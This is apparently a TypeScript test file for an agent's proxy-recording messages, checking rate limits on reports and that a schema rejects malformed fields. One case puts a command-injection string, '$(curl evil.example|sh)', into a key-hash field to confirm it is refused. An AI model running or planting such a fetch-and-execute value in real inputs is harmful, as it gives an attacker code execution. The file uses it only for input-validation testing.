import { randomUUID } from 'node:crypto'
import { type AgentReport, agentMessageSchema } from '@pone/contract/link/messages.ts'
import { expect, it } from 'vitest'
import { GivenWork } from '../given-work.ts'
import { isGiven, noteGiven } from './registry.ts'

const recordingId = randomUUID()
const told: AgentReport = { kind: 'proxyReports', recordingId, reports: [] }

it('an agent reports on recordings that it was given, and not faster than a proxy is used', () => {
  const given = new GivenWork({ runs: [] })
  expect(isGiven(given, told, 0)).toBe(false)
  noteGiven(given, { kind: 'keepRecording', recordingId })
  const taken = Array.from({ length: 500 }, () => isGiven(given, told, 0)).filter(Boolean)
  expect(taken).toHaveLength(200)
  expect(isGiven(given, { ...told, recordingId: randomUUID() }, 60_000)).toBe(false)
  // Four a second are usual.
  for (let at = 60_000; at < 600_000; at += 250) expect(isGiven(given, told, at)).toBe(true)
})

const started = {
  kind: 'started',
  port: 8640,
  certificate: '',
  fingerprint: '',
  hostKeyHash: `${'a'.repeat(43)}=`,
}
const exchange = {
  kind: 'exchange',
  index: 0,
  method: 'GET',
  url: '/',
  status: 200,
  contentType: '',
  durationMs: 0,
  pageId: null,
}
const isRead = (...reports: object[]) =>
  agentMessageSchema.safeParse({ kind: 'proxyReports', recordingId, reports }).success

it.each([
  ['a command in place of the hash of a key', { ...started, hostKeyHash: '$(curl evil.example|sh)' }],
  ['a port that is none', { ...started, port: 0 }],
  ['a certificate of megabytes', { ...started, certificate: 'a'.repeat(10_001) }],
  ['an address of megabytes', { ...exchange, url: 'a'.repeat(501) }],
  ['a time that is none', { ...exchange, durationMs: -1 }],
  ['an end that there is not', { kind: 'ended', reason: 'nobody' }],
])('a message with %s is not understood', (_, report) => {
  expect(isRead(started, exchange)).toBe(true)
  expect(isRead(report)).toBe(false)
})
it('a message with more reports or a larger piece than one may have is not understood', () => {
  expect(isRead(...Array.from({ length: 500 }, () => exchange))).toBe(true)
  expect(isRead(...Array.from({ length: 501 }, () => exchange))).toBe(false)
  const piece = (length: number) =>
    agentMessageSchema.safeParse({ kind: 'recordingPiece', recordingId, from: 0, data: 'a'.repeat(length) })
      .success
  expect([piece(349_528), piece(349_529)]).toEqual([true, false])
})
